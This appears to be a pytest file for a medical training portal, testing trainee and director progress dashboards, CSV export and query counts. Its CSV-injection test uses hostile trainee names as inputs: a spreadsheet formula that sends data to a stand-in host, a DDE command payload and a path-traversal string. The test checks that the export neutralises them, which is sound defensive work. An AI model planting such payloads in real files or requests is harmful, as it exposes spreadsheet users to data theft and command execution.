"""The trainee dashboard (trainees:progress), the director dashboard (programs:dashboard, with its sort, filters and
CSV export) and GET /api/v1/enrollments/{id}/progress/: what they show, and that their query counts do not grow
with the number of trainees or cases."""

import csv
import datetime
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from rest_framework.test import APIClient

from assessments.models import SignOff
from assessments.services import record_prior_experience
from cases.models import CaseLogEntry
from programs.models import Membership
from progress.dashboard import Row
from progress.selectors.reports import report_for
from trainees.models import Enrollment
from trainees.services import set_trainee_virtual_share
from trainingportal.engine import get_ruleset
from trainingportal.engine.evaluate import CURRICULUM

from ..factories import EnrollmentFactory, EntryFactory, MembershipFactory, SignOffFactory, UserFactory
from ..queries import assert_query_count_flat, captured_queries
from .test_facts import BulkProgram

pytestmark = pytest.mark.django_db

ALL_TOPICS = [slug for slug, _ in CURRICULUM]
IN_PERSON_COMPETENCIES = ["stress-testing", "cied-scanning"]  # seeded by migration with in_person_required=True


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def log(enrollment, mentor, n: int, *, days_ago: int = 3, **fields) -> None:
    day = timezone.localdate() - datetime.timedelta(days=days_ago)
    for _ in range(n):
        EntryFactory(enrollment=enrollment, supervising_mentor=mentor, performed_on=day, **fields)


# --- the trainee dashboard --------------------------------------------------------------------------------------


@pytest.fixture
def progress_url(enrollment, mentor):
    log(enrollment, mentor, 12, signed=True, assisted_console=True, case__categories=["flow", "valvular"])
    log(enrollment, mentor, 2, submitted=True)
    return reverse("trainees:progress", args=[enrollment.pk])


@pytest.mark.parametrize("who", ["trainee", "mentor", "director"])
def test_trainee_dashboard_renders_for_the_trainee_mentor_and_director(request, progress_url, enrollment, who):
    response = client_for(request.getfixturevalue(who)).get(progress_url)

    assert response.status_code == 200
    html = response.content.decode()
    report = report_for(enrollment)
    assert "What is missing" in html
    assert report.missing  # 12 cases are far from Level II
    for item in report.missing:
        assert escape(item) in html
    assert "138 more complete studies interpreted with a mentor&#x27;s review" in html
    assert "Curriculum topics not yet covered: MR safety" in html


def test_trainee_dashboard_draws_its_charts_as_inline_svg(progress_url, trainee):
    html = client_for(trainee).get(progress_url).content.decode()

    charts = re.findall(r"<svg\b[^>]*\brole=\"img\"", html)
    assert len(charts) >= 2  # the cumulative cases chart and the virtual share bar
    assert "Cases over time" in html and "Complete studies interpreted with a mentor&#x27;s review: cumulative" in html
    assert "Curriculum coverage" in html and "Flow quantification" in html


def test_trainee_dashboard_shows_every_requirement_with_its_progress(progress_url, trainee):
    html = client_for(trainee).get(progress_url).content.decode()

    for label in (
        "Training duration (full-time equivalent)",
        "Complete studies interpreted with a mentor&#x27;s review",
        "Cases performed (primary operator or assisting at the console)",
        "SCMR Level I curriculum topics covered",
        "Competencies that need in-person experience",
        "Interactive sessions within 4 trainees per mentor",
    ):
        assert label in html
    assert "Share of cases" not in html  # the virtual share is capped per requirement, not a requirement of its own
    assert 'aria-valuetext="12 of 150 cases"' in html
    assert 'aria-valuetext="12 of 50 cases"' in html
    assert 'aria-valuetext="2 of 15 topics"' in html
    assert 'aria-valuetext="0 of 2 competencies"' in html  # stress testing and CIED scanning, from the framework
    assert "The SCMR 2021 virtual-training rules apply" in html  # the overlay note


def test_trainee_dashboard_shows_pending_reviews(progress_url, trainee):
    response = client_for(trainee).get(progress_url)
    assert response.context["report"].pending_reviews == 2
    assert "awaiting review" in response.content.decode()


def test_trainee_dashboard_can_evaluate_against_another_ruleset(progress_url, trainee, enrollment):
    response = client_for(trainee).get(progress_url, {"ruleset": "cbcmr-exam-eligibility"})

    assert response.status_code == 200
    assert response.context["ruleset"].id == "cbcmr-exam-eligibility"
    assert response.context["chosen_ruleset"] == "cbcmr-exam-eligibility"
    report = response.context["report"]
    assert [r.key for r in report.requirements] == ["recent_cases"]  # no SCMR virtual overlay for another body
    assert not report.overlay
    html = response.content.decode()
    assert "CBCMR exam eligibility — recent CMR case experience" in html
    assert "for information; this enrollment is evaluated against scmr-2018-level-2" in html
    assert '<option value="cbcmr-exam-eligibility" selected>' in html
    assert "The SCMR 2021 virtual-training rules do not apply" in html
    assert 'aria-valuetext="12 of 100 cases"' in html
    (missing,) = report.missing
    assert missing.startswith("88 more ") and missing.endswith(" cases in the previous 24 months")
    assert escape(missing) in html
    enrollment.refresh_from_db()
    assert enrollment.ruleset == "scmr-2018-level-2"  # looking is not changing


@pytest.mark.parametrize("other", ["scmr-2099-level-9", "../../etc/passwd", "", "scmr-2018-level-2"])
def test_trainee_dashboard_falls_back_to_the_enrollments_ruleset(progress_url, trainee, other):
    response = client_for(trainee).get(progress_url, {"ruleset": other})

    assert response.status_code == 200
    assert response.context["ruleset"].id == "scmr-2018-level-2"
    assert response.context["chosen_ruleset"] == "scmr-2018-level-2"
    assert "for information" not in response.content.decode()


def test_trainee_dashboard_applies_the_programs_local_rules(progress_url, trainee, program):
    program.local_rules = [{"key": "interpreted", "kind": "min_cases", "label": "Cases read (local)", "minimum": 200}]
    program.save()

    html = client_for(trainee).get(progress_url).content.decode()

    assert "Cases read (local)" in html and "local rule" in html
    assert "188 more cases read (local)" in html


def test_trainee_dashboard_of_an_empty_log(enrollment, trainee):
    response = client_for(trainee).get(reverse("trainees:progress", args=[enrollment.pk]))

    assert response.status_code == 200
    assert response.context["report"].requirement("interpreted").achieved == 0
    assert "no projection yet" in response.content.decode()


# --- the director dashboard -------------------------------------------------------------------------------------

# Three trainees built so that each sort key orders them differently:
#            name   pace/wk  forecast       reviews (waiting, pending)  flags                                  met
#   anna     1st    2.0      in 469 days    (1, 1)                      behind pace, reviews waiting           2 (42%)
#   clara    3rd    1.0      in 994 days    (0, 0)                      behind pace                            3
#   bella    2nd    0        none           (0, 2)                      behind pace, over cap, in person       2 (23%)
# Every Level II trainee needs the framework's in-person competencies (stress testing, CIED scanning): anna has them
# signed in person, clara has them covered by prior experience her mentor recorded, bella has stress testing signed
# only virtually (which does not count) and nothing for CIED scanning. Bella's log is all virtual (asynchronous):
# a 100% share, over the program's 50% maximum.
ORDERS = {
    "name": ["anna", "bella", "clara"],
    "pace": ["bella", "clara", "anna"],
    "forecast": ["anna", "clara", "bella"],
    "pending": ["clara", "bella", "anna"],
    "flags": ["clara", "anna", "bella"],
    "progress": ["bella", "anna", "clara"],
}


@pytest.fixture
def cohort(program, mentor):
    today = timezone.localdate()
    anna = EnrollmentFactory(
        program=program,
        trainee=UserFactory(full_name="Anna Quick"),
        mentors=[mentor],
        start_date=today - datetime.timedelta(days=60),
    )
    log(anna, mentor, 16, signed=True, assisted_console=True, case__categories=["flow"])
    EntryFactory(
        enrollment=anna,
        supervising_mentor=mentor,
        submitted=True,
        submitted_at=timezone.now() - datetime.timedelta(days=8),
    )
    for code in IN_PERSON_COMPETENCIES:
        SignOffFactory(
            enrollment=anna,
            competency_code=code,
            signer=mentor,
            signed_on=today - datetime.timedelta(days=5),
            delivery=SignOff.Delivery.IN_PERSON,
        )

    clara = EnrollmentFactory(
        program=program,
        trainee=UserFactory(full_name="Clara Steady"),
        mentors=[mentor],
        start_date=today - datetime.timedelta(days=60),
    )
    log(clara, mentor, 8, signed=True, assisted_console=True, case__categories=ALL_TOPICS)
    for code in IN_PERSON_COMPETENCIES:
        record_prior_experience(
            actor=mentor, enrollment=clara, competency_code=code, reason="Two years of supervised CMR at a prior post."
        )

    bella = EnrollmentFactory(
        program=program, trainee=UserFactory(full_name="Bella Still"), start_date=today - datetime.timedelta(days=120)
    )  # not supervised by `mentor`
    log(
        bella,
        mentor,
        20,
        days_ago=100,
        signed=True,
        delivery=CaseLogEntry.Delivery.ASYNCHRONOUS,
        case__categories=["flow"],
    )
    log(bella, mentor, 2, submitted=True)
    SignOffFactory(
        enrollment=bella,
        competency_code="stress-testing",  # needs in-person experience
        signer=mentor,
        signed_on=today - datetime.timedelta(days=3),
        delivery=SignOff.Delivery.VIRTUAL,
    )
    return {"anna": anna, "clara": clara, "bella": bella}


def dashboard(user, program, **params):
    return client_for(user).get(reverse("programs:dashboard", args=[program.pk]), params)


def names_in(response, cohort) -> list[str]:
    """The trainees of the table, in order, from their drill-down links."""
    by_pk = {e.pk: name for name, e in cohort.items()}
    pks = re.findall(r'href="/enrollments/(\d+)/"><strong>', response.content.decode())
    return [by_pk.get(int(pk), pk) for pk in pks]


def names_in_csv(response, cohort) -> list[str]:
    by_email = {e.trainee.email: name for name, e in cohort.items()}
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    return [by_email.get(row["email"], row["email"]) for row in rows]


def test_the_cohort_is_what_the_table_says(cohort):
    # A guard for ORDERS: if the engine changes, fix the cohort before reading the sort tests.
    reports = {name: report_for(e) for name, e in cohort.items()}
    assert {n: r.pace_per_week for n, r in reports.items()} == {"anna": 2.0, "clara": 1.0, "bella": 0}
    today = timezone.localdate()
    assert reports["anna"].forecast == today + datetime.timedelta(days=469)
    assert reports["clara"].forecast == today + datetime.timedelta(days=994)
    assert reports["bella"].forecast is None
    assert {n: r.flag_codes for n, r in reports.items()} == {
        "anna": {"behind_pace", "reviews_waiting"},
        "clara": {"behind_pace"},
        "bella": {"behind_pace", "over_virtual_cap", "missing_in_person"},
    }
    assert {n: r.met_count for n, r in reports.items()} == {"anna": 2, "clara": 3, "bella": 2}
    # Why each flag is (not) there, under the rules of today:
    in_person = {n: r.requirement("in_person_competencies") for n, r in reports.items()}
    assert in_person["anna"].met and in_person["anna"].detail["signed_in_person"] == sorted(IN_PERSON_COMPETENCIES)
    assert in_person["clara"].met and in_person["clara"].detail["prior_experience"] == sorted(IN_PERSON_COMPETENCIES)
    assert not in_person["bella"].met and "(signed only virtually)" in in_person["bella"].missing
    assert {n: (r.virtual_share, r.virtual_cap) for n, r in reports.items()} == {
        "anna": (0, 50),
        "clara": (0, 50),
        "bella": (100, 50),
    }
    # Over the cap is flagged, not failed: bella's 20 virtual interpretations are within the 75 (50% of 150) counted.
    assert reports["bella"].requirement("interpreted").achieved == 20
    # The progress sort's tie-break between anna and bella (2 requirements met each).
    rows = {n: Row(enrollment=e, report=reports[n]) for n, e in cohort.items()}
    assert {n: row.overall_percent for n, row in rows.items() if n != "clara"} == {"anna": 42, "bella": 23}


def test_director_sees_every_trainee_of_the_program(cohort, director, program):
    response = dashboard(director, program)

    assert response.status_code == 200
    assert sorted(names_in(response, cohort)) == ["anna", "bella", "clara"]
    html = response.content.decode()
    assert "Anna Quick" in html and "the trainees you supervise" not in html
    assert "1 review waiting &gt; 7 days" in html  # Anna's flag


def test_mentor_sees_only_the_trainees_they_supervise(cohort, mentor, program):
    response = dashboard(mentor, program)

    assert response.status_code == 200
    assert names_in(response, cohort) == ["anna", "clara"]
    assert "the trainees you supervise" in response.content.decode()


def test_mentor_without_trainees_sees_an_empty_table(cohort, program):
    other_mentor = UserFactory()
    MembershipFactory(user=other_mentor, program=program, role=Membership.Role.MENTOR)

    response = dashboard(other_mentor, program)

    assert response.status_code == 200
    assert names_in(response, cohort) == []
    assert "No trainees yet" in response.content.decode()


@pytest.mark.parametrize("key", ORDERS)
def test_sorting_by_each_column(cohort, director, program, key):
    assert names_in(dashboard(director, program, sort=key), cohort) == ORDERS[key]


@pytest.mark.parametrize("key", ORDERS)
def test_sorting_descending_with_a_minus(cohort, director, program, key):
    assert names_in(dashboard(director, program, sort=f"-{key}"), cohort) == ORDERS[key][::-1]


def test_default_and_unknown_sort_is_by_name(cohort, director, program):
    assert names_in(dashboard(director, program), cohort) == ORDERS["name"]
    assert names_in(dashboard(director, program, sort="salary"), cohort) == ORDERS["name"]


def test_the_sorted_column_says_so(cohort, director, program):
    html = dashboard(director, program, sort="-pace").content.decode()
    assert 'aria-sort="descending"' in html
    assert "sort=pace" in html  # selecting it again sorts ascending


@pytest.mark.parametrize(
    ("flag", "expected"),
    [
        ("reviews_waiting", ["anna"]),
        ("over_virtual_cap", ["bella"]),
        ("missing_in_person", ["bella"]),
        ("behind_pace", ["anna", "bella", "clara"]),
        ("group_cap", []),
        ("no-such-flag", ["anna", "bella", "clara"]),
    ],
)
def test_filter_by_flag(cohort, director, program, flag, expected):
    assert names_in(dashboard(director, program, flag=flag), cohort) == expected


def test_the_mentors_lower_virtual_share_for_a_trainee_flags_them(cohort, director, mentor, program):
    # Anna: 16 in-person cases and 4 virtual ones, a 20% share, under the program's 50%.
    anna = cohort["anna"]
    log(anna, mentor, 4, signed=True, delivery=CaseLogEntry.Delivery.ASYNCHRONOUS, case__categories=["flow"])
    assert names_in(dashboard(director, program, flag="over_virtual_cap"), cohort) == ["bella"]

    anna = set_trainee_virtual_share(actor=mentor, enrollment=anna, share=10, reason="Needs more time at the scanner.")

    # The table (counted by the database) and the trainee's report read the same lower share.
    assert names_in(dashboard(director, program, flag="over_virtual_cap"), cohort) == ["anna", "bella"]
    report = report_for(anna)
    assert (report.virtual_share, report.virtual_cap) == (20, 10)
    assert "over_virtual_cap" in report.flag_codes


@pytest.mark.parametrize(
    ("q", "expected"),
    [("bella", ["bella"]), ("STEADY", ["clara"]), ("a", ["anna", "bella", "clara"]), ("zzz", [])],
)
def test_filter_by_name(cohort, director, program, q, expected):
    assert names_in(dashboard(director, program, q=q), cohort) == expected


def test_filter_by_email(cohort, director, program):
    email = cohort["clara"].trainee.email
    assert names_in(dashboard(director, program, q=email), cohort) == ["clara"]


def test_no_match_says_so(cohort, director, program):
    assert "No trainee matches these filters" in dashboard(director, program, q="zzz").content.decode()


def test_withdrawn_trainees_show_only_when_asked(cohort, director, program):
    gone = EnrollmentFactory(program=program, trainee=UserFactory(full_name="Wendy Withdrawn"), status="withdrawn")
    cohort = {**cohort, "wendy": gone}

    assert "wendy" not in names_in(dashboard(director, program), cohort)
    assert names_in(dashboard(director, program, status="withdrawn"), cohort) == ["wendy"]
    assert names_in(dashboard(director, program, status="all"), cohort) == ["anna", "bella", "clara", "wendy"]
    assert names_in(dashboard(director, program, status="completed"), cohort) == []


def test_csv_export_has_a_header_and_one_row_per_trainee(cohort, director, program):
    response = dashboard(director, program, format="csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="program-{program.pk}-progress.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["trainee", "email", "start_date", "status", "ruleset"]
    assert {"interpreted_achieved", "interpreted_required", "hands_on_achieved", "flags", "forecast"} <= set(header)
    assert len(body) == 3 and all(len(row) == len(header) for row in body)

    anna = next(dict(zip(header, row, strict=True)) for row in body if row[0] == "Anna Quick")
    report = report_for(cohort["anna"])
    assert anna["interpreted_achieved"] == "16"
    assert anna["interpreted_required"] == "150"
    assert anna["flags"] == "behind_pace;reviews_waiting"
    assert anna["forecast"] == report.forecast.isoformat()
    assert anna["pace_per_week"] == "2.0"
    assert anna["ruleset"] == "scmr-2018-level-2 v3"
    assert anna["requirements_met"] == f"2/{len(report.requirements)}"
    bella = next(dict(zip(header, row, strict=True)) for row in body if row[0] == "Bella Still")
    assert bella["flags"] == "behind_pace;missing_in_person;over_virtual_cap"
    assert bella["virtual_share"] == "100.0"


def test_csv_export_respects_the_filters_and_the_sort(cohort, director, program):
    assert names_in_csv(dashboard(director, program, format="csv", flag="behind_pace", sort="-pace"), cohort) == [
        "anna",
        "clara",
        "bella",
    ]
    assert names_in_csv(dashboard(director, program, format="csv", q="bella"), cohort) == ["bella"]
    assert names_in_csv(dashboard(director, program, format="csv", flag="reviews_waiting"), cohort) == ["anna"]


def test_csv_export_of_a_mentor_has_only_their_trainees(cohort, mentor, program):
    assert names_in_csv(dashboard(mentor, program, format="csv"), cohort) == ["anna", "clara"]


def test_csv_export_with_no_trainees_is_a_header(program, director):
    rows = list(csv.reader(io.StringIO(dashboard(director, program, format="csv").content.decode())))
    assert len(rows) == 1 and rows[0][0] == "trainee"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.test/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)"])
def test_csv_export_neutralises_names_a_spreadsheet_would_run(program, director, name):
    # Trainees choose their own name at sign-up; the director opens the export in a spreadsheet (CSV injection).
    EnrollmentFactory(program=program, trainee=UserFactory(full_name=name))

    rows = list(csv.reader(io.StringIO(dashboard(director, program, format="csv").content.decode())))

    assert not rows[1][0].startswith(("=", "+", "-", "@")), rows[1][0]
    assert name in rows[1][0]


def test_the_export_link_keeps_the_filters(cohort, director, program):
    html = dashboard(director, program, flag="behind_pace", q="a", sort="pace").content.decode()
    link = re.search(r'href="\?([^"]*format=csv[^"]*)"', html).group(1).replace("&amp;", "&")
    assert set(link.split("&")) >= {"flag=behind_pace", "q=a", "sort=pace", "format=csv"}


# --- the progress endpoint --------------------------------------------------------------------------------------


def test_progress_endpoint_returns_the_same_report(progress_url, enrollment, trainee):
    client = APIClient()
    client.force_login(trainee)

    response = client.get(f"/api/v1/enrollments/{enrollment.pk}/progress/")

    assert response.status_code == 200
    data = response.json()
    expected = report_for(enrollment).as_dict()
    assert data == expected
    assert [r["key"] for r in data["requirements"]] == [r.key for r in get_ruleset("scmr-2018-level-2").rules] + [
        "in_person_competencies",
        "group_cap",
    ]
    assert (data["overlay"], data["virtual_cap"], data["mentor_min_level"]) == (True, 50, "II")
    assert data["overlay_note"] == expected["overlay_note"] != ""


# --- query counts: 5 trainees x 10 cases, then 50 trainees x 300 cases --------------------------------------------


@pytest.fixture
def bulk(program, mentor):
    return BulkProgram(program, mentor)


def _grow(bulk: BulkProgram, small: list) -> None:
    """From 5 trainees x 10 cases to 50 trainees x 300 cases."""
    bulk.add_cases(small, 290)
    bulk.add_cases(bulk.add_trainees(45), 300)
    assert Enrollment.objects.filter(program=bulk.program).count() == 50
    assert CaseLogEntry.objects.filter(enrollment__program=bulk.program).count() == 15_000


def _small(bulk: BulkProgram) -> list:
    small = bulk.add_trainees(5)
    bulk.add_cases(small, 10)
    return small


# What gathers the facts, the same for every request below (test_facts.GATHER_QUERIES and TALLIED_QUERIES):
# - one enrollment (trainee dashboard, API), entries read one by one: 11 queries: signed entries, their case topics
#   (both plain SQL), review counts, leave, attendance, completed lectures, sign-offs, prior experience, the topics
#   (id, slug, name), the framework's in-person competencies, the signers' credential levels;
# - a table (director and mentor dashboards, CSV), entries counted by the database: 10 queries: counts per rule and
#   per week (the signer's level is a subquery of it), review counts, leave, attendance, completed lectures,
#   sign-offs, prior experience, the topics, the framework's in-person competencies, topic counts (plain SQL).


def test_trainee_dashboard_query_count_does_not_grow(bulk):
    small = _small(bulk)
    me = small[0]
    # 1. session  2. user  3. "is a director?" (MFA middleware)  4. the enrollment with trainee, program, director
    # 5. the user's roles in the program (access function, reused by the view)  6-16. the facts (11)
    # 17-19. the in-person panel: the trainee's sign-offs of in-person competencies, the prior experience recorded,
    # the in-person competencies  20. the agreement with the mentor's read (one aggregate)  21. navigation roles
    # 22. the enrollment's mentors (the dossiers are listed on their own page, dossiers:for_enrollment)
    assert_query_count_flat(
        client_for(me.trainee), reverse("trainees:progress", args=[me.pk]), lambda: _grow(bulk, small), expected=22
    )


def test_director_dashboard_query_count_does_not_grow(bulk, director, program):
    small = _small(bulk)
    # 1. session  2. user  3. "is a director?" (MFA)  4. authenticators  5. the program  6. the user's roles in it
    # 7. the enrollments with trainee and program  8-17. the counted facts for all trainees at once (10)
    # 18. navigation roles
    assert_query_count_flat(
        client_for(director),
        reverse("programs:dashboard", args=[program.pk]),
        lambda: _grow(bulk, small),
        expected=18,
    )


def test_mentor_dashboard_query_count_does_not_grow(bulk, mentor, program):
    small = _small(bulk)
    # The director's queries without the authenticators (a mentor needs no MFA); the enrollments are filtered by
    # mentor in the same query.
    assert_query_count_flat(
        client_for(mentor),
        reverse("programs:dashboard", args=[program.pk]),
        lambda: _grow(bulk, small),
        expected=17,
    )


def test_director_csv_export_query_count_does_not_grow(bulk, director, program):
    small = _small(bulk)
    # The dashboard's queries without the navigation roles (no page is rendered).
    url = reverse("programs:dashboard", args=[program.pk]) + "?format=csv"
    assert_query_count_flat(client_for(director), url, lambda: _grow(bulk, small), expected=17)


def test_progress_endpoint_query_count_does_not_grow(bulk, director):
    small = _small(bulk)
    client = APIClient()
    client.force_login(director)
    # 1. session  2. user  3. "is a director?" (MFA permission)  4. authenticators  5. the enrollment with trainee,
    # program, director  6. the user's roles in the program  7-17. the facts (11)
    assert_query_count_flat(
        client, f"/api/v1/enrollments/{small[0].pk}/progress/", lambda: _grow(bulk, small), expected=17
    )


def test_director_dashboard_reads_the_viewers_roles_once(cohort, director, program):
    # get_program_for_user stores the roles on program.viewer_roles "to save the caller a second query";
    # dashboard_enrollments must use them rather than asking the database again.
    url = reverse("programs:dashboard", args=[program.pk])
    client = client_for(director)
    response, sql = captured_queries(lambda: client.get(url))
    assert response.status_code == 200
    roles = f'"programs_membership"."program_id" = {program.pk} AND "programs_membership"."user_id" = {director.pk}'
    assert sum(roles in q for q in sql) == 1, "\n".join(q for q in sql if roles in q)
